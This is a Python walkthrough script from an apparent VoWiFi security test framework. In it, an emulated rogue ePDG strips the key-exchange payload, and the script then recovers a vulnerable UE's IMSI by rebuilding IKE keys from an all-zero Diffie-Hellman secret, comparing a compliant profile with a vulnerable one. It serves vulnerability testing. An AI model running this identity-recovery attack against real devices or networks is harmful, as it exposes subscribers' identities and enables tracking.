"""Walkthrough: a UE that falls back to a zero DH secret leaks its IMSI.

The adversarial ePDG strips the KE payload from its IKE_SA_INIT response.
A vulnerable UE carries on with an all-zero shared secret, so a passive
observer can rebuild every IKE key from public values and decrypt IKE_AUTH.
"""

from vowifi_advtest import attacks, ike
from vowifi_advtest.corpus import build_corpus
from vowifi_advtest.testbed import Controller
from vowifi_advtest.ue import resolve_profile


def captured_messages(log):
    msgs = {}
    for r in log:
        p = r.payload
        if r.direction == "report" and p.get("event") in ("sent", "received") and p.get("name"):
            msgs.setdefault(p["name"], bytes.fromhex(p["hex"]))
    return msgs


def main():
    corpus = build_corpus()
    atc = next(a for a in corpus.atcs if a.final.name == "ike_sa_init_response"
               and a.final.op == "drop" and a.final.attribute == "key_exchange")
    print(f"testcase {atc.tc_id}: drop KE from {atc.final.name}")

    for name in ("compliant", "zero_dh"):
        with Controller() as ctl:
            log = ctl.run_testcase(atc, resolve_profile(name), "demo")
        msgs = captured_messages(log)
        print(f"\n[{name}] UE sent: {[n for n in msgs if n.startswith('ike_') and n.endswith('request')]}")
        if "ike_auth_request" not in msgs:
            print("  no IKE_AUTH was sent, nothing to decrypt")
            continue
        auth = ike.parse_message(msgs["ike_auth_request"])
        print(f"  IKE_AUTH on the wire: {ike.summarize(auth)['payloads']}")
        imsi = attacks.try_zero_dh_identity(msgs["ike_sa_init_request"], msgs["ike_sa_init_response"],
                                            msgs["ike_auth_request"])
        print(f"  identity recovered with zero-secret keys: {imsi}")


if __name__ == "__main__":
    main()
